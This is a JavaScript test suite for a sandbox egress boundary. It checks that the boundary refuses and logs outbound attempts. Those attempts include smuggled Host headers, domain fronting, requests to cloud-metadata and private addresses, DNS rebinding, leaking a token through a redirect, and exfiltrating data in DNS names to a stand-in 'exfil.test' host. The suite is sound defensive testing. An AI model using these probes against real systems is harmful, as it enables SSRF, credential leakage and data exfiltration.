// Invariants 5 and 7 at the boundary: a sandbox reaches the host that a policy names, at addresses that were checked, and
// whatever else it says about where it wants to go is refused.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createServer } from 'node:http2';
import { after, test } from 'node:test';
import { authority, boundary, credential, nameServer, origin, rule } from '../lib/egress.mjs';

const ca = authority();
const tls = ca.issue(['api.test', 'other.test', 'a.wild.test']);
const names = { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' };
const dns = await nameServer(names);
const behind = (o, more = {}) => boundary({ ca, dns, allow: [rule('api.test', o.port), rule('other.test', o.port)], credentials: [credential(`api.test:${o.port}`)], ...more });

test('A4 SNI, CONNECT, Host and :authority that do not agree are answered 421', async () => {
  const o = await origin({ tls, h2: true });
  const b = behind(o);
  const r = await b.py(`
p, t = P['port'], 'Authorization: Bearer ' + TOKEN + '\\r\\nConnection: close\\r\\n\\r\\n'
def ask(host): return 'GET / HTTP/1.1\\r\\nHost: %s\\r\\n%s' % (host, t)
out['sni'] = talk('api.test', p, ask('api.test:%d' % p), sni='other.test', verify=False)
out['host'] = talk('api.test', p, ask('other.test:%d' % p))
out['port'] = talk('api.test', p, ask('api.test:1'))
out['absolute'] = talk('api.test', p, 'GET https://other.test:%d/ HTTP/1.1\\r\\nHost: api.test:%d\\r\\n%s' % (p, p, t))
s, out['connect_head'] = connect('other.test:%d' % p)
s = secure(s, 'api.test', verify=False)
say(s, ask('api.test:%d' % p))
out['connect'] = hear(s)
out['fine'] = talk('api.test', p, ask('api.test:%d' % p))
h = H2('api.test', p)
out['authority'] = h.ask(1, request('other.test:%d' % p, more=[('authorization', 'Bearer ' + TOKEN)]))
h = H2('api.test', p)
out['beside'] = h.ask(1, request('api.test:%d' % p, more=[('host', 'other.test'), ('authorization', 'Bearer ' + TOKEN)]))
`, { port: o.port });
  for (const k of ['sni', 'host', 'port', 'connect']) assert.match(r[k], /^HTTP\/1.1 421 /, `${k}: ${r[k]}`);
  assert.match(r.absolute, /^HTTP\/1.1 4(00|21) /);
  assert.equal(r.authority.status, 421);
  assert.ok(r.beside.rst || r.beside.goaway || [400, 421].includes(r.beside.status), JSON.stringify(r.beside));
  assert.match(r.fine, /^HTTP\/1.1 200 /);
  assert.equal(o.seen.length, 1, 'only the request whose places agree went out');
  assert.ok(b.records({ reason: 'claims_disagree' }).length >= 5);
});

test('A24 Host steering with a matching SNI: Host twice, with a user, a path, a number or nothing', async () => {
  const o = await origin({ tls });
  const b = behind(o);
  const hosts = ['other.test', 'api.test:PORT\r\nHost: other.test', 'other.test\r\nHost: api.test:PORT', 'api.test:PORT@other.test', 'user@api.test:PORT', 'api.test:PORT/x', '127.0.0.1:PORT', '2130706433:PORT', 'api.test.evil.test:PORT', '', 'api.test:PORT, other.test', 'api.test:PORT\r\nX-A: 1\r\n Host: other.test', 'api.test%00.other.test'].map((h) => h.replaceAll('PORT', o.port));
  const r = await b.py(`
out['all'] = [talk('api.test', P['port'], 'GET / HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' % (h, TOKEN)) for h in P['hosts']]
out['forwarded'] = talk('api.test', P['port'], 'GET / HTTP/1.1\\r\\nHost: api.test:%d\\r\\nX-Forwarded-Host: other.test\\r\\nConnection: close\\r\\n\\r\\n' % P['port'])
`, { port: o.port, hosts });
  r.all.forEach((a, i) => assert.match(a, /^HTTP\/1.1 4(00|21) /, `${JSON.stringify(hosts[i])}: ${a}`));
  assert.match(r.forwarded, /^HTTP\/1.1 200 /, 'to whom that matters is the origin’s business');
  assert.equal(o.seen.length, 1);
});

test('A25 domain fronting over a shared address: a host of the same address is another host', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
  const out = await b.ok(`p=${o.port}; for h in other.test evil.test; do curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test:$p/ -H "Host: $h:$p"; curl -sSk -o /dev/null -w '%{http_code}\\n' --connect-to $h:$p:api.test:$p https://$h:$p/; done`);
  assert.deepEqual(out.trim().split('\n'), ['421', '421', '421', '421']);
  assert.equal(o.seen.length, 0);
});

test('A4 without a server name Host is compared with the resolved name, and what is no TLS is refused', async () => {
  const o = await origin({ tls });
  const b = behind(o);
  const r = await b.py(`
s = dial('api.test', P['port'], tls=False)
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
try:
    t = c.wrap_socket(s)
    say(t, 'GET / HTTP/1.1\\r\\nHost: other.test:%d\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' % (P['port'], TOKEN))
    out['r'] = hear(t)
except OSError as e:
    out['r'] = '<' + type(e).__name__ + '>'
out['ssh'] = talk('api.test', 443, 'SSH-2.0-x\\r\\n', tls=False)
out['noise'] = talk('api.test', P['port'], '\\x16\\x03\\x01\\x00\\x05hello', tls=False)
`, { port: o.port });
  assert.doesNotMatch(r.r, /HTTP\/1.1 200/);
  assert.match(r.ssh, /^<ConnectionResetError>$|^$/);
  assert.doesNotMatch(r.noise, /200/);
  assert.equal(o.seen.length, 0);
});

const forbidden = {
  'loop.test': '127.0.0.1', 'loop6.test': '::1', 'meta.test': '169.254.169.254', 'meta6.test': 'fd00:ec2::254', 'ali.test': '100.100.100.200', 'azure.test': '168.63.129.16',
  'ten.test': '10.0.0.1', 'rfc172.test': '172.16.0.1', 'rfc192.test': '192.168.0.1', 'cgnat.test': '100.64.0.1', 'zero.test': '0.0.0.0', 'zero6.test': '::', 'multi.test': '224.0.0.1', 'broad.test': '255.255.255.255',
  'mapped.test': '::ffff:7f00:1', 'mappedmeta.test': '::ffff:a9fe:a9fe', 'nat64.test': '64:ff9b::7f00:1', 'nat64meta.test': '64:ff9b::a9fe:a9fe', 'sixto4.test': '2002:7f00:1::', 'link6.test': 'fe80::1', 'ula.test': 'fd12::1', 'inside.test': '198.18.0.10',
};
const own = Object.values(os.networkInterfaces()).flat().find((i) => i.family === 'IPv4' && !i.internal)?.address;
if (own) forbidden['own.test'] = own;
Object.assign(names, forbidden);

test('A6 metadata, loopback, private and this machine’s own addresses are connected to under no wildcard', async () => {
  const b = boundary({ ca, dns, allow: [{ host: '*', limits: { names: '1000/h' } }], policy: { private_networks: 'allow' } });
  const all = Object.keys(forbidden);
  const out = await b.ok(`for h in ${all.join(' ')}; do curl -sSi -m 10 http://$h/ | tr -d '\\r' | tr '\\n' ' '; echo; done`);
  out.trim().split('\n').forEach((l, i) => assert.match(l, /^HTTP\/1.1 (403|502) .*destination_ip_prohibited/, `${all[i]}: ${l}`));
  assert.equal(b.records({ reason: 'address_denied' }).length, all.length);
  const raw = await b.ok(`for a in 169.254.169.254 127.0.0.1:1 2130706433 0x7f.1 [::1]:1 [::ffff:169.254.169.254]; do curl -sS -m 10 -x http://127.0.0.1:3128 -o /dev/null -w '%{http_code}\\n' http://$a/; curl -sSk -m 10 -p -x http://127.0.0.1:3128 -o /dev/null -w '%{http_connect}\\n' https://$a/; done; true`);
  assert.ok(raw.trim().split('\n').every((c) => /^(4\d\d|502|000)$/.test(c)), raw);
});

test('A5 DNS that changes its answer: the address that was checked is connected to, and all answers are checked', async () => {
  const o = await origin({ tls, host: '127.0.0.1' }), evil = await origin({ tls, host: '127.0.0.2', port: o.port });
  names['api.test'] = (n) => (n % 2 ? '127.0.0.1' : '127.0.0.2');
  names['other.test'] = ['127.0.0.2', '127.0.0.1'];
  const only = { addresses: ['127.0.0.1/32'] };
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port, only), rule('other.test', o.port, only)], credentials: [credential(`api.test:${o.port}`)] });
  const before = dns.asked.length;
  const get = `curl -sS -o /dev/null -w '%{http_code} ' https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`;
  const flips = await b.ok(`${get}; ${get}`); // whatever is answered when, only the address that was checked is connected to
  names['api.test'] = '127.0.0.1';
  const first = await b.ok(get);
  names['api.test'] = '127.0.0.2';
  const second = await b.ok(get);
  const both = await b.ok(`curl -sSk -o /dev/null -w '%{http_code}' https://other.test:${o.port}/`);
  names['api.test'] = names['other.test'] = '127.0.0.1';
  assert.match(flips, /^((200|403) ){2}$/);
  assert.deepEqual([first, second, both], ['200 ', '403 ', '200']);
  assert.ok(o.seen.length > 0);
  assert.equal(evil.seen.length, 0, 'the other address was never connected to');
  assert.equal(evil.sockets.size, 0);
  assert.ok(dns.asked.length - before <= 16, 'a question a family for each dial, of which there are two at most a connection');
});

test('A7 a redirect is the client’s to follow, and is judged from zero', async () => {
  const evil = await origin({ tls });
  const o = await origin({ tls, handler: (req, res) => res.writeHead(307, { location: `https://other.test:${evil.port}/` }).end() });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('other.test', evil.port, { inspect: true })], credentials: [credential(`api.test:${o.port}`)] });
  const out = await b.ok(`curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"; curl -sSL --location-trusted https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`);
  assert.match(out, /^307\n/);
  assert.match(out, /leak_attempt/);
  assert.equal(evil.seen.length, 0);
  assert.equal(b.records({ reason: 'leak_attempt' }).length, 1);
});

test('A10 no UDP, no ICMP, no raw sockets, and no name asked outside', async () => {
  const before = dns.asked.length;
  const b = boundary({ ca, dns, allow: [rule('api.test', 443)] });
  const r = await b.py(`
def attempt(f):
    try: return repr(f())
    except OSError as e: return 'refused'
def udp(a, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(b'x' * 30, a); return s.recv(100)
out['udp'] = [attempt(lambda: udp(('8.8.8.8', 53))), attempt(lambda: udp(('198.18.0.10', 443))), attempt(lambda: udp(('127.0.0.1', 9)))]
out['raw'] = [attempt(lambda: socket.socket(f, t, p)) for f, t, p in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58), (17, socket.SOCK_RAW, 0x300), (40, socket.SOCK_STREAM, 0))]
def ping():
    # The kernel may give out sockets that can do nothing but echo requests: none gets out of the sandbox.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.settimeout(0.5); s.sendto(b'\\x08' + b'\\0' * 20, ('8.8.8.8', 0)); return s.recv(100)
out['ping'] = attempt(ping)
out['far'] = [attempt(lambda: socket.create_connection(a, 2)) for a in (('8.8.8.8', 443), ('2001:4860:4860::8888', 443), ('169.254.169.254', 80), ('10.0.0.1', 80))]
out['names'] = [attempt(lambda: socket.getaddrinfo(n, 443)) and 1 for n in ('c2VjcmV0.exfil.test', 'a.b.c.d.exfil.test')]
`);
  assert.deepEqual(r.udp, Array(3).fill('refused'));
  assert.deepEqual(r.raw, Array(5).fill('refused'));
  assert.equal(r.ping, 'refused');
  assert.deepEqual(r.far, Array(4).fill('refused'));
  assert.equal(dns.asked.length, before, 'nobody outside was asked');
});

test('A11, A12 another process of the sandbox is the same sandbox, and no token opens the boundary', async () => {
  const o = await origin({ tls });
  const b = behind(o);
  const out = (await b.sh(`T=$TOKEN; env -i PATH="$PATH" sh -c 'for h in x:p "$0:$0"; do curl -sS -x http://$h@127.0.0.1:3128 -o /dev/null -w "%{http_connect}\\n" https://evil.test/; done' "$T"; env | grep -i proxy`)).out;
  assert.doesNotMatch(out, /proxy=.*@/i, 'no login in the environment: the socket is the identity');
  assert.equal(out.match(/403/g)?.length, 2, out);
  assert.equal(o.seen.length, 0);
});

test('A14 start order: the first thing that a program does is a connection', async () => {
  const o = await origin({ tls });
  const b = behind(o);
  for (let i = 0; i < 3; i++) {
    const { run, BIN } = await import('../lib/own.mjs');
    const r = await run(BIN, [...b.argv(), '--', 'curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', `https://${i ? 'api' : 'evil'}.test:${i ? o.port : 443}/`]);
    assert.equal(r.out, i ? '200' : '403', r.err);
  }
});

test('A17 a client with its own trust and certificate: what is passed through keeps its TLS from end to end', async () => {
  const client = ca.issue(['client.test']);
  fs.writeFileSync(path.join(ca.dir, 'client.pem'), Buffer.concat([client.cert, client.key]), { mode: 0o644 });
  const o = await origin({ tls: { ...tls, requestCert: true, rejectUnauthorized: true, ca: fs.readFileSync(ca.file) } });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential('other.test:1')], args: ['--bind', `${ca.dir}/client.pem`, '--bind', ca.file] });
  const out = await b.ok(`curl -sS --cacert ${ca.file} --cert ${ca.dir}/client.pem https://api.test:${o.port}/ -o /dev/null -w '%{http_code} '; curl -sS https://api.test:${o.port}/ -o /dev/null 2>/dev/null || echo $?`);
  assert.equal(out.trim(), '200 60', 'the origin’s certificate, not one of ours');
  assert.equal(o.seen.length, 1);
  assert.equal(b.records({ protocol: 'tls' })[0].verdict, 'allow');
});

test('A4 an encrypted ClientHello, which may be for another name, is looked into', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)] });
  // 65037 is encrypted_client_hello; what is in it nobody can tell from what browsers send to everybody
  const out = await b.ok(`for ext in 65000 65037; do openssl s_client -connect api.test:${o.port} -servername api.test -serverinfo $ext </dev/null 2>/dev/null | openssl x509 -noout -issuer; done`);
  const [passed, looked] = out.trim().split('\n');
  assert.doesNotMatch(passed, /sallyport/i, 'the origin’s own');
  assert.match(looked, /sallyport/i, 'ours: TLS ends at the boundary');
});

test('A27 a wildcard name as a channel: labels, bytes and names are limited, and nothing is asked outside for free', async () => {
  const o = await origin({ tls });
  for (let i = 0; i < 9; i++) names[`n${i}.wild.test`] = '127.0.0.1';
  const b = boundary({ ca, dns, allow: [rule('*.wild.test', o.port, { limits: { labels: 2, bytes: 20, names: '4/h' } })] });
  const before = dns.asked.length;
  const out = await b.ok(`getent ahostsv4 ${'x'.repeat(40)}.wild.test || echo long; getent ahostsv4 a.b.c.wild.test || echo deep; n=0; for i in 0 1 2 3 4 5 6 7 8; do getent ahostsv4 n$i.wild.test >/dev/null && n=$((n+1)); done; echo $n`);
  assert.deepEqual(out.trim().split('\n'), ['long', 'deep', '4']);
  assert.equal(dns.asked.length, before);
});

test('A24 plain HTTP is looked into on every port, without a credential, too: Host is compared, and a foreign placeholder stays', async () => {
  const o = await origin({ plain: true });
  const b = boundary({ ca, dns, allow: [rule('other.test', o.port, { plaintext: true })], credentials: [credential('api.test')] });
  const r = await b.py(`
def ask(host, more=''): return 'GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n%s\\r\\n' % (host, more)
out['host'] = talk('other.test', P['port'], ask('api.test:%d' % P['port']), tls=False)
out['placeholder'] = talk('other.test', P['port'], ask('other.test:%d' % P['port'], 'Authorization: Bearer %s\\r\\n' % TOKEN), tls=False)
out['fine'] = talk('other.test', P['port'], ask('other.test:%d' % P['port']), tls=False)
`, { port: o.port });
  assert.match(r.host, /^HTTP\/1.1 421 /);
  assert.match(r.placeholder, /^HTTP\/1.1 403 /);
  assert.match(r.fine, /^HTTP\/1.1 200 /);
  assert.equal(o.seen.length, 1);
  assert.deepEqual(b.records({ host: 'other.test' }).map((x) => x.reason), ['claims_disagree', 'leak_attempt', undefined]);
});

test('HTTP/2 without TLS is looked into, and goes on as HTTP/2', async () => {
  const s = createServer();
  let streams = 0;
  s.on('stream', (st) => { streams++; st.respond({ ':status': 200 }); st.end('ok'); }).on('sessionError', () => {});
  await new Promise((ok) => s.listen(0, '127.0.0.1', ok));
  after(() => s.close());
  const { port } = s.address();
  const b = boundary({ ca, dns, allow: [rule('other.test', port, { plaintext: true })] });
  const out = await b.ok(`curl -sS --http2-prior-knowledge http://other.test:${port}/; curl -sS -o /dev/null -w '%{http_code}' --http2-prior-knowledge -H 'Host: api.test' http://other.test:${port}/`);
  assert.equal(out, 'ok421');
  assert.equal(streams, 1);
});

test('A27 a name that does not resolve leaves one record for all questions of a look-up', async () => {
  const b = boundary({ dns, allow: [rule('*.wild.test', 443, { limits: { labels: 2 } })], policy: { dns: 'strict' } });
  const out = await b.ok('for n in other.test a.b.c.wild.test other.test b.test; do getent ahosts $n; getent ahostsv6 $n; done; echo end');
  assert.equal(out, 'end\n');
  assert.deepEqual(b.records().map((x) => [x.host, x.reason, x.verdict]), [['other.test', 'name_denied', 'deny'], ['a.b.c.wild.test', 'name_too_long', 'deny'], ['b.test', 'name_denied', 'deny']]);
});

test('dns: strict: questions that are many have a few records, the next of which says how many there were', async () => {
  const b = boundary({ ca, dns, allow: [rule('api.test', 443)], policy: { dns: 'strict' } });
  await b.py(`
for i in range(200):
    try: socket.getaddrinfo('n%d.elsewhere.test' % i, 80)
    except socket.gaierror: pass
time.sleep(2.5)
try: socket.getaddrinfo('last.elsewhere.test', 80)
except socket.gaierror: pass
`);
  const all = b.records({ reason: 'name_denied' }), held = all.map((r) => Number(/\(and (\d+) more since the last record\)$/.exec(r.note)?.[1] ?? 0)).reduce((x, y) => x + y, 0);
  assert.equal(all.at(-1).host, 'last.elsewhere.test');
  assert.ok(all.length < 201 && held > 0, `${all.length} records, ${held} held back`);
  assert.ok(all.length + held >= 201, `${all.length} records, ${held} held back`);
});
